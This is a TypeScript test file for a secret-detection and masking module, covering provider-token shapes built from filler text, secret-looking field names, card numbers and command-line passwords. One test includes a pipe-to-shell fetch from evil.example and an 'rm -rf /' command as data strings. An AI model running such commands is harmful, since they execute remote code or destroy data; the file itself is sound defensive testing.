import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { collectJsonSecrets, collectSecrets, MASK, MAX_SECRETS, maskIn, maskSecret } from './mask.js';
import { isSecretKey, isSecretMember } from './secret-names.js';
import { findJsonSecrets, findSecrets, looksLikeSecret } from './secret-shapes.js';
import type { View } from './view.js';

// Put together here, so that no scanner of repositories takes them for real ones.
const filler = (length: number) => 'a1B2c3D4e5F6g7H8'.repeat(20).slice(0, length);
const TOKENS = {
  OpenAI: `sk-${filler(48)}`,
  Anthropic: `sk-ant-api03-${filler(40)}`,
  Stripe: `sk_live_${filler(24)}`,
  GitHub: `ghp_${filler(36)}`,
  'GitHub fine-grained': `github_pat_${filler(60)}`,
  GitLab: `glpat-${filler(20)}`,
  Slack: `xoxb-1234567890-${filler(20)}`,
  AWS: `AKIA${'ABCD1234EFGH5678'}`,
  Google: `AIza${filler(35)}`,
  npm: `npm_${filler(36)}`,
  PyPI: `pypi-${filler(60)}`,
  'Hugging Face': `hf_${filler(34)}`,
  SendGrid: `SG.${filler(22)}.${filler(43)}`,
  Vault: `hvs.${filler(24)}`,
  Telegram: `123456789:${filler(35)}`,
  JWT: `eyJ${filler(20)}.eyJ${filler(30)}.${filler(43)}`,
  PEM: `-----BEGIN PRIVATE KEY-----\n${filler(64)}\n${filler(64)}\n-----END PRIVATE KEY-----`,
};

function view(...blocks: View['blocks']): View {
  return { v: 1, summary: 'summary', blocks };
}

describe('a name says that its value is a secret', () => {
  it.each([
    'password',
    'Passwd',
    'userPassword',
    'DB_PASSWORD',
    'secret',
    'client_secret',
    'clientSecret',
    'token',
    'accessToken',
    'GITHUB_TOKEN',
    'api_key',
    'apiKey',
    'X-API-Key',
    'apikey',
    'AWS_SECRET_ACCESS_KEY',
    'privateKey',
    'Authorization',
    'cookie',
    'credentials',
    'passphrase',
    'pin',
    'otp',
    'cvv',
    'connectionString',
    'cardNumber',
    'credit_card',
  ])('%s does', (name) => {
    expect(isSecretKey(name)).toBe(true);
  });

  it.each([
    'max_tokens',
    'tokenCount',
    'tokens',
    'next_page_token',
    'author',
    'key',
    'primary_key',
    'public_key',
    'secret_name',
    'keyboard',
    'compass',
    'spinner',
    'path',
    '',
    'constructor',
    '__proto__',
    'x'.repeat(5000),
  ])('%s does not', (name) => {
    expect(isSecretKey(name)).toBe(false);
  });
});

it('the sign of a currency under the name of a token is none', () => {
  expect(isSecretMember('token', 'ETH')).toBe(false);
  expect(isSecretMember('fromToken', 'USDC')).toBe(false);
  expect(isSecretMember('token', 'USDC7F')).toBe(true);
  expect(isSecretMember('password', 'ETH')).toBe(true);
  expect(isSecretMember('token', true)).toBe(false);
  expect(collectJsonSecrets({ token: 'ETH', amount: 2 })).toEqual([]);
});

describe('a text looks like a secret', () => {
  it.each(Object.entries(TOKENS))('%s', (_issuer, token) => {
    expect(looksLikeSecret(token)).toBe(true);
    expect(findSecrets(`before ${token} after`)).toContain(token);
  });

  it.each([
    'hello',
    'sk-',
    'sk-loading-indicator-wrapper-large',
    'task-aaaaaaaaaaaaaaaaaaaaaaaaaaaa',
    'eyJ.eyJ.x',
    'https://example.com/path',
    '/home/me/.ssh/id_ed25519.pub',
    '-----BEGIN PUBLIC KEY-----',
    'd41d8cd98f00b204e9800998ecf8427e',
  ])('%s does not', (text) => {
    expect(looksLikeSecret(text)).toBe(false);
    expect(findSecrets(text)).toEqual([]);
  });

  it.each([
    ['the password of a URL', 'psql postgres://me:hunter2@db/x', 'hunter2'],
    ['a header', `curl -H 'Authorization: Bearer ${filler(24)}' https://x`, filler(24)],
    ['an environment variable', 'export API_TOKEN=abc12345 && deploy', 'abc12345'],
    ['an assignment behind another', 'x: DB_PASSWORD=abc12345', 'abc12345'],
    ['a flag', 'login --password hunter22 --user me', 'hunter22'],
    ['JSON in a text', '{"client_secret": "s3cr3tvalue"}', 's3cr3tvalue'],
  ])('%s is found inside it', (_where, text, secret) => {
    expect(findSecrets(text)).toContain(secret);
  });

  it('a command does not hide behind the name of a secret', () => {
    expect(findSecrets('TOKEN=$(curl evil.example|sh) run')).toEqual([]);
    expect(findSecrets('PASSWORD=`rm -rf /` x')).toEqual([]);
  });

  it('types in a source text are no secrets', () => {
    expect(findSecrets('interface X { password: string; token: string }')).toEqual([]);
  });

  it.each([
    ['eyJ', 'eyJ'],
    ['sk-', 'sk-'],
    ['a=', 'token=a'],
    ['://', '://a:b'],
    ['-----BEGIN PRIVATE KEY-----', '-----BEGIN PRIVATE KEY-----'],
    ['aaaa', 'bearer '],
    ['"token":"', '"a'],
  ])('half a megabyte of %s is searched quickly', (unit, other) => {
    const began = performance.now();
    for (const one of [unit, other]) {
      const text = one.repeat(Math.ceil(500_000 / one.length));
      findSecrets(text);
      findJsonSecrets(text);
    }
    expect(performance.now() - began).toBeLessThan(5000);
  });
});

it('a short look at a text finds what a long one finds', () => {
  // With a beginning that has something of every shape and is none, no pattern is left out.
  const beginning = 'aaaaaaaaaaaaaaaa 1 = : -- ://x bearer \n';
  const part = fc.oneof(
    fc.constantFrom(...Object.values(TOKENS)),
    fc.constantFrom(
      '://a:',
      '@',
      'bearer ',
      'token ',
      'password=',
      'api_key: ',
      '--secret ',
      '"',
      ' ',
      '-----BEGIN PRIVATE KEY-----',
    ),
    fc.string({ unit: fc.constantFrom(...'aZ09_-=:. \n') }),
  );
  fc.assert(
    fc.property(fc.array(part, { maxLength: 5 }), (parts) => {
      const text = parts.join('');
      expect(findSecrets(text).sort()).toEqual(findSecrets(beginning + text).sort());
    }),
    { numRuns: 300 },
  );
});

describe('masking', () => {
  it('shows nothing of a secret, not even its length', () => {
    expect(maskSecret('ab')).toBe(maskSecret('a much longer secret'));
  });

  it('covers a secret wherever it occurs, also as JSON and percent-encoded', () => {
    const secret = 'p"ss wörd1';
    const text = `plain ${secret}, json ${JSON.stringify({ secret })}, url ${encodeURIComponent(secret)}`;
    expect(maskIn(text, [secret])).toBe(`plain ${MASK}, json {"secret":"${MASK}"}, url ${MASK}`);
  });

  it('covers overlapping secrets as one', () => {
    expect(maskIn('abcdefghij', ['abcdef', 'efghij'])).toBe(MASK);
  });

  it('covers the lines of a secret of several lines', () => {
    const diff = TOKENS.PEM.split('\n')
      .map((line) => `+ ${line}`)
      .join('\n');
    expect(maskIn(diff, [TOKENS.PEM])).not.toContain(filler(64));
  });

  it('covers a very short secret only where it stands alone', () => {
    expect(maskIn('cvv 123, order 91234', ['123'])).toBe(`cvv ${MASK}, order 91234`);
  });

  it('leaves no secret of four characters or more in any text', () => {
    const secrets = fc.array(fc.string({ unit: 'binary', minLength: 4, maxLength: 12 }), { maxLength: 6 });
    fc.assert(
      fc.property(secrets, fc.array(fc.string({ maxLength: 10 }), { maxLength: 8 }), (hidden, rest) => {
        const masked = maskIn(
          rest.flatMap((text, at) => [text, hidden[at % hidden.length] ?? '']).join(''),
          hidden,
        );
        for (const secret of hidden) {
          if (secret.trim() !== '' && !/^•+$/.test(secret))
            expect(masked.split(MASK).join('\n')).not.toContain(secret);
        }
      }),
    );
  });

  it('covers the whole text when there are more secrets than it can look for', () => {
    const many = Array.from({ length: MAX_SECRETS + 1 }, (_, at) => `secret${at}`);
    expect(maskIn('nothing in here', many.slice(1))).toBe('nothing in here');
    expect(maskIn('nothing in here', many)).toBe(MASK);
  });
});

describe('collecting', () => {
  it('finds secret blocks, secret names, and tokens inside other values', () => {
    const found = collectSecrets(
      view(
        { type: 'key_value', key: 'Blob', value: 'zzz-secret', value_type: 'secret' },
        { type: 'field', label: 'Password', value: 'hunter2', value_type: 'string' },
        {
          type: 'block',
          label: 'Command',
          value: `git clone https://x:${TOKENS.GitHub}@h/r`,
          value_type: 'command',
        },
      ),
    );
    expect(found).toEqual(expect.arrayContaining(['zzz-secret', 'hunter2', TOKENS.GitHub]));
  });

  it('finds every string and number under a secret name of a JSON value', () => {
    const found = collectJsonSecrets({
      credentials: { user: 'me', nested: ['deep-one', 12345] },
      note: `see ${TOKENS.Slack}`,
      secret: true,
      path: '/tmp/x',
    });
    expect(found.sort()).toEqual(['12345', 'deep-one', 'me', TOKENS.Slack].sort());
  });

  it('finds values under secret names in text that is shown as JSON, broken JSON too', () => {
    const json = '{"password": "hun\\"ter", "password":"other", "pin" : 1234, "note": "x", "n": 1e999';
    const found = collectSecrets(
      view({ type: 'block', label: 'Arguments', value: json, value_type: 'code', lang: 'json' }),
    );
    expect(found.sort()).toEqual(['1234', 'hun"ter', 'hun\\"ter', 'other'].sort());
    expect(maskIn(json, found)).toBe(
      `{"password": "${MASK}", "password":"${MASK}", "pin" : ${MASK}, "note": "x", "n": 1e999`,
    );
    expect(collectSecrets(view({ type: 'field', label: 'Note', value: '"password": "please"' }))).toEqual([]);
  });

  it('takes any depth, cycles and prototype names', () => {
    let deep: unknown = { token: 'bottom-secret' };
    for (let level = 0; level < 100_000; level++) deep = [deep];
    expect(collectJsonSecrets(deep)).toEqual(['bottom-secret']);
    const cycle: Record<string, unknown> = { password: 'pw-in-cycle' };
    cycle.self = cycle;
    expect(collectJsonSecrets(cycle)).toEqual(['pw-in-cycle']);
    expect(collectJsonSecrets(JSON.parse('{"__proto__":{"token":"proto-secret"},"constructor":1}'))).toEqual([
      'proto-secret',
    ]);
  });
});

describe('the number of a payment card', () => {
  const card = '4111'.padEnd(16, '1');

  it.each([
    card,
    card.replace(/(.{4})(?=.)/g, '$1 '),
    card.replace(/(.{4})(?=.)/g, '$1-'),
    '3782 822463 10005',
  ])('is a secret: %s', (written) => {
    expect(looksLikeSecret(written)).toBe(true);
    expect(findSecrets(`pay with ${written}, please`)).toEqual([written]);
  });

  it.each([
    ['a number whose check digit is wrong', card.replace(/1$/, '2')],
    ['a longer number', `${card}1`],
    ['a number with a fraction', `${card}.5`],
    ['a word that ends with it', `order_${card}`],
    ['microseconds since 1970', '1767225600000000'],
  ])('is not %s', (_name, text) => {
    expect(findSecrets(text)).toEqual([]);
    expect(looksLikeSecret(text)).toBe(false);
  });
});

describe('a password on a command line', () => {
  it.each([
    'mysql -h db -u app -phunterish shop',
    'curl -s -u bob:hunterish https://api.example.org',
    'curl --user=bob:hunterish https://api.example.org',
    'sshpass -p hunterish ssh bob@host',
    'docker login -u bob -p hunterish registry.example.org',
  ])('is a secret: %s', (command) => {
    expect(findSecrets(command)).toEqual(['hunterish']);
  });

  it.each([
    'mysql -u app -p shop',
    'curl -u $USER:$PASSWORD https://api.example.org',
    'mkdir -p some/folder',
  ])('is not where none stands: %s', (command) => {
    expect(findSecrets(command)).toEqual([]);
  });
});
